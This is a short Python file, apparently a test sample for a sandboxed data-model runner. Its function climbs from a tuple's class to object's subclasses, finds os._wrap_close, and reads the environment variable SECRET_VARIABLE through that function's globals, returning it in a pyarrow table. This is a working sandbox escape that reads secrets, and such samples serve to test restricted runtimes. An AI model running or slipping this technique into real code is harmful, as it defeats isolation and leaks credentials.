# seeks: environment
# From a tuple to object, to all classes, to one of os, to the globals of its function.
import pyarrow as pa


def model(tg):
    for found in ().__class__.__base__.__subclasses__():
        if found.__name__ == "_wrap_close":
            return pa.table({"got": [found.__init__.__globals__["environ"]["SECRET_VARIABLE"]]})
